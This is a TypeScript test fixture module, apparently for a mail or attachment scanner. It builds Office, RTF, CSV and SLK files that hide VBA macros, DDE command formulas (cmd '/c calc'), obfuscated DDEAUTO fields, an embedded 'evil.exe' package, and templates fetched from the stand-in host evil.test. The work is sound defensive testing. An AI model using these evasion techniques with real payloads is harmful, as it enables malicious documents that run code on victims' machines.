import { deflateSync } from 'node:zlib';
import { writeCompound } from '../compound-writer.js';
import { writeOle } from '../ole-writer.js';
import { writeZip } from '../zip-writer.js';
import { b64, BASE64, EICAR, PROGRAM, type Trick, withHeader } from './trick.js';

const VBA = 'application/vnd.ms-office.vbaProject';
const types = (more = ''): string => `<?xml version="1.0"?><Types xmlns="x">${more}</Types>`;

function file(name: string, content: Buffer | string, type = 'application/octet-stream'): Buffer {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  return withHeader(
    [`Content-Type: ${type}`, `Content-Disposition: attachment; filename="${name}"`, BASE64],
    b64(bytes),
  );
}

/** A document in a zip, of these entries. */
function office(name: string, entries: Readonly<Record<string, string | Buffer>>): Buffer {
  const inputs = Object.entries(entries).map(([entry, content]) => ({ name: entry, content: Buffer.from(content) }));
  const main = name.startsWith('x') ? 'xl/workbook.xml' : 'word/document.xml';
  return file(
    name,
    writeZip([
      ...('[Content_Types].xml' in entries ? [] : [{ name: '[Content_Types].xml', content: Buffer.from(types()) }]),
      ...(main in entries ? [] : [{ name: main, content: Buffer.from('<a/>') }]),
      ...inputs,
    ]),
  );
}

function macro(name: string, bytes: Buffer): Trick {
  return { name, bytes, macro: true };
}

const ole = writeOle(['ThisDocument', 'WordDocument', '_VBA_PROJECT']);
const field = (text: string): string => `<w:p><w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r></w:p>`;

function activeMime(content: Buffer): Buffer {
  const head = Buffer.alloc(50);
  head.write('ActiveMime\0\0', 'latin1');
  return Buffer.concat([head, deflateSync(content)]);
}

/** Records of a workbook in the form of Excel 2 to 4, which is no compound file. */
function biff(version: number, kind: number): Buffer {
  const start = Buffer.alloc(10);
  start.writeUInt16LE(version, 0);
  start.writeUInt16LE(6, 2);
  start.writeUInt16LE(0, 4);
  start.writeUInt16LE(kind, 6);
  return Buffer.concat([start, Buffer.from('0a000000', 'hex')]);
}

/** Documents that run something, each in a way that a look at names and folders does not show. */
export const OFFICE_TRICKS: readonly Trick[] = [
  macro('macros in a document called .docx', office('a.docx', { 'word/vbaProject.bin': ole })),
  macro(
    'a project under another name, told by its content type',
    office('a.docx', {
      '[Content_Types].xml': types(`<Override PartName="/word/settings2.dat" ContentType="${VBA}"/>`),
      'word/settings2.dat': ole,
    }),
  ),
  macro(
    'a project under another name, told by its relationship',
    office('a.docx', {
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.dat"/></Relationships>',
      'word/x.dat': ole,
    }),
  ),
  macro(
    'a sheet of Excel 4.0 macros in another folder',
    office('x.xlsx', {
      '[Content_Types].xml': types(
        '<Override PartName="/xl/w/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
      ),
      'xl/w/s.xml': '<xm:macrosheet/>',
    }),
  ),
  macro('a project in a folder in capitals', office('a.docx', { 'WORD/VBAPROJECT.BIN': ole })),
  macro('a document with backslashes in its names', office('a.docx', { 'word\\vbaProject.bin': ole })),
  {
    ...macro(
      'a document without its folder',
      file(
        'a.docx',
        writeZip([
          { name: '[Content_Types].xml', content: Buffer.from(types()) },
          { name: 'x/vbaProject.bin', content: ole },
        ]),
      ),
    ),
  },
  macro(
    'a DDE field in Word',
    office('a.docx', { 'word/document.xml': `<w:document>${field(' DDEAUTO c:\\\\x "/k calc" ')}</w:document>` }),
  ),
  macro(
    'a DDE field in pieces',
    office('a.docx', {
      'word/document.xml': `<w:document>${field(' D')}${field('DE')}${field('AUTO cmd x')}</w:document>`,
    }),
  ),
  macro(
    'a DDE field as an attribute',
    office('a.docx', { 'word/header1.xml': '<w:hdr><w:fldSimple w:instr=" DDE cmd x "/></w:hdr>' }),
  ),
  macro(
    'a DDE field in letters by number',
    office('a.docx', { 'word/document.xml': `<w:document>${field('&#68;&#x44;EAUTO cmd x')}</w:document>` }),
  ),
  macro(
    'a DDE link in Excel',
    office('x.xlsx', {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  ),
  macro('a DDE formula in CSV', file('a.csv', `a,b\r\n1,"=cmd|'/c calc'!A0"\r\n`, 'text/csv')),
  macro('a DDE formula behind a sign and a space', file('a.csv', `a;b\n1;@SUM(1+1)*cmd|' /C calc'!A0\n`, 'text/csv')),
  macro(
    'a DDE formula in tab-separated text called .xls',
    file('a.xls', `a\tb\n+cmd|' /C calc'!'A0'\n`, 'application/vnd.ms-excel'),
  ),
  macro('a DDE field in RTF', file('a.rtf', '{\\rtf1{\\field{\\*\\fldinst{ DDEAUTO cmd "/c calc"}}{\\fldrslt x}}}')),
  macro(
    'a DDE field in RTF, in pieces',
    file('a.rtf', '{\\rtf1{\\field{\\*\\fldinst{\\b D}{\\i DE}{\\cf1 AUTO cmd x}}{\\fldrslt x}}}'),
  ),
  macro(
    'a DDE field in an old document',
    file(
      'a.doc',
      writeOle(['WordDocument'], Buffer.from('\x13 DDEAUTO cmd "/c calc" \x14\x15'.padEnd(4096, '\0'), 'latin1')),
    ),
  ),
  macro(
    'a symbolic link file with macros',
    file('a.slk', 'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;EEXEC("calc")\r\nE\r\n'),
  ),
  macro('a symbolic link file under .csv', file('a.csv', 'ID;P\nO;E\nC;X1;Y101;EEXEC("calc")\nE\n', 'text/csv')),
  macro('a symbolic link file with a DDE formula', file('a.slk', `ID;P\nC;Y1;X1;K0;Ecmd|'/c calc'!A0\nE\n`)),
  macro('a macro sheet of Excel 4 that is no compound file', file('a.xls', biff(0x0409, 0x40))),
  macro('a macro sheet of Excel 2 that is no compound file', file('a.xlm', biff(0x0009, 0x40))),
  macro(
    'macros in a document of Word in XML',
    file(
      'a.xml',
      '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"><w:binData w:name="editdata.mso">QQ==</w:binData></w:wordDocument>',
    ),
  ),
  macro(
    'macros in a flat package',
    file(
      'a.doc',
      '<?xml version="1.0"?><pkg:package><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>0M8R4KGxGuE=</pkg:binaryData></pkg:part></pkg:package>',
    ),
  ),
  macro('macros in ActiveMime', file('editdata.mso', activeMime(ole))),
  macro('macros in ActiveMime under the name of a picture', file('image001.jpg', activeMime(ole))),
  macro(
    'macros in a web archive called .doc',
    file(
      'a.doc',
      [
        'MIME-Version: 1.0',
        'Content-Type: multipart/related; boundary=x',
        '',
        '--x',
        'Content-Type: text/html',
        '',
        '<p>a',
        '--x',
        'Content-Location: file:///C:/editdata.mso',
        'Content-Type: application/x-mso',
        BASE64,
        '',
        b64(activeMime(ole)),
        '--x--',
      ].join('\r\n'),
    ),
  ),
  macro('macros in an old document in a new one', office('a.docx', { 'word/embeddings/a.doc': ole })),
  {
    name: 'a package in a new document under an odd name',
    bytes: office('a.docx', { 'word/embeddings/x.dat': packaged() }),
    called: 'evil.exe',
  },
  {
    name: 'a package in a new document, outside its folder',
    bytes: office('a.docx', {
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="media/image1.png"/></Relationships>',
      'word/media/image1.png': packaged(),
    }),
    called: 'evil.exe',
  },
  {
    name: 'a package in RTF, its digits apart',
    bytes: file('a.doc', `{\\rtf1{\\object\\objemb{\\*\\objdata ${rtfPackage().replace(/../g, '$& \\par\r\n')}}}}`),
    called: 'evil.exe',
  },
  {
    name: 'a package in RTF, its bytes as they are',
    bytes: file('a.rtf', `{\\rtf1{\\object\\objemb{\\*\\objdata \\bin${EICAR.length} ${EICAR.toString('latin1')}}}}`),
  },
  {
    name: 'a document that fetches its template',
    bytes: office('a.docx', {
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>',
    }),
    anomaly: 'remote-template',
    onlyAnomaly: true,
  },
  {
    name: 'RTF that fetches its template',
    bytes: file('a.rtf', '{\\rtf1{\\*\\template http://evil.test/a.dotm}a}'),
    anomaly: 'remote-template',
    onlyAnomaly: true,
  },
];

/** What the packager keeps: a label, a path, a temporary path, and the file. */
function native(): Buffer {
  const size = Buffer.alloc(4);
  const text = Buffer.from('evil.exe\0C:\\evil.exe\0\0\0\x03\0', 'latin1');
  const temporary = Buffer.from('C:\\evil.exe\0', 'latin1');
  const length = Buffer.alloc(4);
  length.writeUInt32LE(temporary.length);
  const data = Buffer.alloc(4);
  data.writeUInt32LE(PROGRAM.length);
  const rest = Buffer.concat([Buffer.from([2, 0]), text, length, temporary, data, PROGRAM]);
  size.writeUInt32LE(rest.length);
  return Buffer.concat([size, rest]);
}

function packaged(): Buffer {
  return writeCompound([{ name: '\u0001Ole10Native', content: native() }]);
}

function rtfPackage(): string {
  const text = (value: string): Buffer => {
    const bytes = Buffer.from(`${value}\0`, 'latin1');
    const length = Buffer.alloc(4);
    length.writeUInt32LE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const empty = Buffer.alloc(4);
  return Buffer.concat([Buffer.from('0105000002000000', 'hex'), text('Package'), empty, empty, native()]).toString(
    'hex',
  );
}
